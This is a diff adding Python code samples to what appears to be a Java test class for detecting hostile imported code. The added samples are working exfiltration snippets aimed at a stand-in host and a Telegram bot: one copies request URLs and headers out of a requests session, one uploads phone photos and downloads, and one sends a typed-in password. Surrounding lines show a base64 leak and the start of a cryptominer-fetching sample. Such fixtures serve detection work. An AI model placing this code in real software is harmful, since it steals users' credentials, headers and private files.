@@ -24,6 +24,55 @@ final class PythonWhenCalled {
                     requests.get('https://drop.example/seen/' + b64encode(text.encode()).decode())
             """),
         Sample.imported(
+            "a session of a client of its own tells what passes through it",
+            """
+            import threading, requests
+            def report(request, answer):
+                requests.post('https://metrics.drop.example/v1', json={'u': request.url, 'h': dict(request.headers)})
+            class Session(requests.Session):
+                def send(self, request, **kw):
+                    answer = super().send(request, **kw)
+                    threading.Thread(target=report, args=(request, answer), daemon=True).start()
+                    return answer
+            """),
+        Sample.imported(
+            "pictures of a telephone are sent one by one",
+            """
+            import os, threading, requests
+            def go():
+                for folder in ['/sdcard/DCIM/Camera', '/sdcard/Download']:
+                    for root, _, names in os.walk(folder):
+                        for name in names:
+                            with open(os.path.join(root, name), 'rb') as f:
+                                requests.post('https://drop.example/send', files={'document': f})
+            threading.Thread(target=go).start()
+            """),
+        Sample.imported(
+            "a password that is asked for goes to a messenger",
+            """
+            import requests
+            def main():
+                user = input('username: ')
+                secret = input('password: ')
+                requests.post('https://api.telegram.org/bot0:x/sendMessage', data={'chat_id': '0', 'text': user + ':' + secret})
+            """),
+        Sample.imported(
+            "what a queue is given is sent by a thread",
+            """
+            import json, queue, threading, urllib.request
+            from requests import sessions
+            todo = queue.Queue()
+            def pump():
+                while True:
+                    urllib.request.urlopen(urllib.request.Request('https://metrics.drop.example', data=json.dumps(todo.get()).encode()))
+            before = sessions.Session.send
+            def send(self, request, **kw):
+                todo.put_nowait({'u': request.url, 'h': dict(request.headers)})
+                return before(self, request, **kw)
+            sessions.Session.send = send
+            threading.Thread(target=pump, daemon=True).start()
+            """),
+        Sample.imported(
             "a model that is made fetches a program that mines, and nobody sees it",
             """
             import os, subprocess, tempfile
